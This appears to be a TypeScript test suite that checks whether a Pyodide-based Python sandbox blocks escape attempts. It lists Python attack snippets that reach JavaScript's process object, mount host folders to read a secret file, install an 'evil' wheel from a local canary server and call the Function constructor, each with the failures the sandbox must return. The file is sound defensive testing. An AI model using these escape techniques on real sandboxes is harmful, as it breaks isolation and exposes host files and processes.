import { type Attack, lost, refuses, returns, throws } from './attack.js';

const isMissing = throws('ModuleNotFoundError');

export const reachingJavascript: readonly Attack[] = [
  {
    name: 'asks the global object of JavaScript for the process',
    code: `def attack(canary):
    import js
    return js.process.pid`,
    accepts: [isMissing],
  },
  {
    name: 'runs JavaScript through the package of the loader',
    code: `def attack(canary):
    from pyodide.code import run_js
    return run_js('process.pid')`,
    accepts: [isMissing],
  },
  {
    name: 'asks the loader for its settings',
    code: `def attack(canary):
    import pyodide_js
    return pyodide_js._api.config.jsglobals.process.pid`,
    accepts: [isMissing],
  },
  {
    name: 'mounts the folders of the host through the loader',
    code: `def attack(canary):
    import pyodide_js
    pyodide_js.mountNodeFS('/host', canary['folder'])
    return open('/host/secret.txt').read()`,
    accepts: [isMissing],
  },
  {
    name: 'fetches a package from the network through the loader',
    code: `def attack(canary):
    import micropip
    return micropip.install(f"http://127.0.0.1:{canary['port']}/evil-1.0-py3-none-any.whl")`,
    accepts: [isMissing],
  },
  {
    name: 'makes the core of the loader anew, and an object of JavaScript with it',
    code: `def attack(canary):
    import _pyodide_core
    made = _pyodide_core.to_js([1])
    return str(made.constructor.constructor('return process.pid')())`,
    accepts: [isMissing, refuses()],
  },
  {
    name: 'makes the core of the loader anew, and a function that outlives the call',
    code: `def attack(canary):
    import _pyodide_core
    return str(_pyodide_core.create_once_callable(attack))`,
    accepts: [isMissing, refuses()],
  },
  {
    name: 'makes every built-in module that the interpreter was linked with',
    code: `def attack(canary):
    import sys, importlib
    reached = []
    for name in sys.builtin_module_names:
        try:
            importlib.import_module(name)
        except ImportError:
            continue
        if 'pyodide' in name or name == 'js':
            reached.append(name)
    return reached`,
    accepts: [returns([]), refuses(), throws('SystemError')],
  },
  {
    name: 'makes the core of the loader below the import system',
    code: `def attack(canary):
    import _imp
    from importlib.machinery import ModuleSpec
    module = _imp.create_builtin(ModuleSpec('_pyodide_core', None, origin='built-in'))
    _imp.exec_builtin(module)
    return str(module.create_proxy(attack).constructor)`,
    accepts: [isMissing, refuses(), throws('ImportError')],
  },
  {
    name: 'looks for JavaScript objects among all objects',
    code: `def attack(canary):
    import gc, sys
    seen, queue, found = set(), [sys.modules, *gc.get_objects()], []
    while queue:
        thing = queue.pop()
        if id(thing) in seen:
            continue
        seen.add(id(thing))
        if 'Js' in type(thing).__name__:
            found.append(thing)
        queue.extend(gc.get_referents(thing))
    for thing in found:
        for name in ('process', 'constructor', 'globalThis', '_api'):
            try:
                value = getattr(thing, name)
            except Exception:
                continue
            return str(value)
    return 'nothing'`,
    accepts: [returns('nothing'), refuses(), lost],
  },
  {
    name: 'climbs from any JavaScript object to the constructor of functions',
    code: `def attack(canary):
    import gc
    def named(name):
        queue, seen = [object], set()
        while queue:
            kind = queue.pop()
            for sub in type.__subclasses__(kind):
                if sub not in seen:
                    seen.add(sub)
                    queue.append(sub)
                    if sub.__name__ == name:
                        yield sub
    for kind in named('JsProxy'):
        proxy = kind.__new__(kind)
        return str(proxy.constructor.constructor('return process.pid')())
    return 'nothing'`,
    accepts: [returns('nothing'), refuses(), throws('TypeError')],
  },
  {
    name: 'makes an exception of JavaScript and reads its constructor',
    code: `def attack(canary):
    queue, seen = [BaseException], set()
    while queue:
        kind = queue.pop()
        for sub in kind.__subclasses__():
            if sub not in seen:
                seen.add(sub)
                queue.append(sub)
                if sub.__name__ in ('JsException', 'ConversionError', 'InternalError'):
                    return str(sub('return process.pid').constructor)
    return 'nothing'`,
    accepts: [returns('nothing'), refuses(), throws('TypeError'), throws('AttributeError')],
  },
  {
    name: 'converts values for JavaScript with what modules still hold of the loader',
    code: `def attack(canary):
    import sys, gc
    wanted = ('to_js', 'create_proxy', 'create_once_callable', 'run_js', 'run_sync')
    for thing in [*sys.modules.values(), *gc.get_objects()]:
        space = getattr(thing, '__dict__', None)
        if not isinstance(space, dict):
            continue
        for name in wanted:
            if callable(space.get(name)):
                made = space[name]([1]) if name == 'to_js' else space[name](print)
                return str(made.constructor.constructor('return process.pid')())
    return 'nothing'`,
    accepts: [returns('nothing'), refuses(), throws('AttributeError'), throws('TypeError')],
  },
  {
    name: 'waits for a promise on the event loop of the loader',
    code: `def attack(canary):
    import asyncio
    loop = asyncio.get_event_loop()
    loop.call_soon(print, 'later')
    return type(loop).__module__`,
    accepts: [throws('RuntimeError'), refuses(), throws('PermissionError')],
  },
  {
    name: 'runs a coroutine on an event loop of its own',
    code: `import asyncio

async def later():
    await asyncio.sleep(0)
    return 1

def attack(canary):
    return asyncio.run(later())`,
    accepts: [returns(1), refuses(), isMissing, throws('PermissionError')],
  },
  {
    name: 'opens a page in a browser',
    code: `def attack(canary):
    import webbrowser
    return webbrowser.open(f"http://127.0.0.1:{canary['port']}/")`,
    accepts: [returns(false), refuses(), isMissing, throws('AttributeError')],
  },
  {
    name: 'imports its way around: names of Node.js as modules of Python',
    code: `def attack(canary):
    import importlib
    reached = []
    for name in ('fs', 'process', 'child_process', 'node:fs', 'node', 'worker_threads', 'globalThis'):
        try:
            reached.append(repr(importlib.import_module(name)))
        except ImportError:
            pass
    return reached`,
    accepts: [returns([])],
  },
];
